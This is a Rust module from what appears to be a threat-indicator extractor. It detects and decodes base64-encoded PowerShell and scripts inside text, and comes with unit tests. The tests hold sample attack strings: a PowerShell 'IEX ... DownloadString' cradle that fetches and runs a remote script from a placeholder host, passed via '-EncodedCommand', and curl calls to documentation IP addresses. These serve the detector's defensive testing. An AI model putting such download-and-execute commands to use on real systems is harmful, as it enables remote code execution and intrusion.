//! Base64 inside text: encoded PowerShell (UTF-16LE) and encoded scripts (UTF-8).
//!
//! A run of at least 24 characters of the alphabet, not all hexadecimal, is decoded once. It counts
//! when the result is text: UTF-16LE of mostly Latin characters, or printable UTF-8. What is inside is
//! not decoded again.

use std::ops::Range;

use base64::Engine;
use base64::alphabet::STANDARD;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

/// Shortest run that is tried: 18 bytes, enough for `http://1.2.3.4/a`.
const SHORTEST: usize = 24;

/// Characters that are decoded to see whether the whole is worth it; a multiple of four.
const PROBE: usize = 48;

const ENGINE: GeneralPurpose = GeneralPurpose::new(
    &STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// The texts encoded in `text`, each with the span of its base64. O(length) time.
pub(crate) fn encoded_texts(text: &str) -> impl Iterator<Item = (Range<usize>, String)> {
    runs(text.as_bytes()).filter_map(|run| Some((run.clone(), decode(text.get(run)?)?)))
}

fn runs(bytes: &[u8]) -> impl Iterator<Item = Range<usize>> {
    let mut at = 0;
    std::iter::from_fn(move || {
        while at < bytes.len() {
            // Only every `SHORTEST`th byte is looked at until one can be part of a run that long.
            let probe = at + SHORTEST - 1;
            if !bytes.get(probe).is_some_and(|byte| is_base64(*byte)) {
                at = probe + 1;
                continue;
            }
            let before = bytes[at..probe].iter().rev().take_while(|byte| is_base64(**byte)).count();
            let start = probe - before;
            let after = bytes[probe..].iter().take_while(|byte| is_base64(**byte)).count();
            let end = probe + after;
            let padding = bytes[end..].iter().take(2).take_while(|byte| **byte == b'=').count();
            at = end + 1;
            if end - start >= SHORTEST {
                return Some(start..end + padding);
            }
        }
        None
    })
}

const fn is_base64(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/')
}

fn decode(run: &str) -> Option<String> {
    let body = run.trim_end_matches('=');
    let body = &body[..body.len() - usize::from(body.len() % 4 == 1)];
    if body.bytes().all(|byte| byte.is_ascii_hexdigit()) {
        return None;
    }
    let probe = ENGINE.decode(&body[..body.len().min(PROBE)]).ok()?;
    if is_utf16(&probe) {
        Some(utf16(&ENGINE.decode(body).ok()?))
    } else if is_printable(&probe) {
        String::from_utf8(ENGINE.decode(body).ok()?).ok()
    } else {
        None
    }
}

/// Most high bytes are zero.
fn is_utf16(bytes: &[u8]) -> bool {
    let (pairs, _) = bytes.as_chunks::<2>();
    let latin = pairs.iter().filter(|[low, high]| *high == 0 && *low != 0).count();
    latin * 4 >= pairs.len() * 3
}

fn is_printable(bytes: &[u8]) -> bool {
    bytes.iter().all(|byte| matches!(byte, b'\t' | b'\n' | b'\r' | b' '..=b'~' | 0x80..))
        && bytes.iter().filter(|byte| byte.is_ascii()).count() * 2 > bytes.len()
}

fn utf16(bytes: &[u8]) -> String {
    let (pairs, _) = bytes.as_chunks::<2>();
    let units = pairs.iter().map(|pair| u16::from_le_bytes(*pair));
    char::decode_utf16(units).map(|unit| unit.unwrap_or(char::REPLACEMENT_CHARACTER)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::extract;

    fn encoded_powershell(script: &str) -> String {
        let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
        ENGINE.encode(bytes)
    }

    #[test]
    fn an_indicator_in_encoded_powershell_is_found_at_the_place_of_the_base64() {
        let script = "IEX (New-Object Net.WebClient).DownloadString('https://quiet-river.example.net/a.ps1')";
        let blob = encoded_powershell(script);
        let line = format!("powershell.exe -NoProfile -EncodedCommand {blob} -x");
        let [found] = extract(&line).try_into().unwrap();
        assert_eq!(found.indicator.value, "https://quiet-river.example.net/a.ps1");
        assert!(found.encoded && !found.defanged);
        assert_eq!(&line[found.span], blob);
    }

    #[test]
    fn base64_of_plain_text_is_looked_into_whatever_its_padding() {
        for script in [
            "curl http://198.51.100.7/a",
            "curl http://198.51.100.7/ab",
            "curl http://198.51.100.7/abc",
        ] {
            let blob = ENGINE.encode(script);
            for line in [format!("x={blob};"), format!("x={};", blob.trim_end_matches('='))] {
                assert_eq!(extract(&line).len(), 1, "{line}");
            }
        }
    }

    #[test]
    fn what_is_inside_is_not_decoded_again() {
        let twice = ENGINE.encode(ENGINE.encode("curl http://198.51.100.7/abcdefgh"));
        assert!(extract(&twice).is_empty());
    }

    #[test]
    fn long_paths_names_and_digests_are_not_text() {
        let text = "/usr/lib/python3/site/packages/thing ThisIsAVeryLongCamelCaseIdentifierOfCode da39a3ee5e6b4b0d3255bfef95601890afd80709";
        assert_eq!(encoded_texts(text).count(), 0);
    }

    #[test]
    fn runs_are_found_at_either_end_and_only_when_long_enough() {
        let long = "A".repeat(SHORTEST);
        let text = format!("{long} {} {long}==", "B".repeat(SHORTEST - 1));
        let found: Vec<_> = runs(text.as_bytes()).collect();
        assert_eq!(found, [0..24, 49..75]);
    }
}
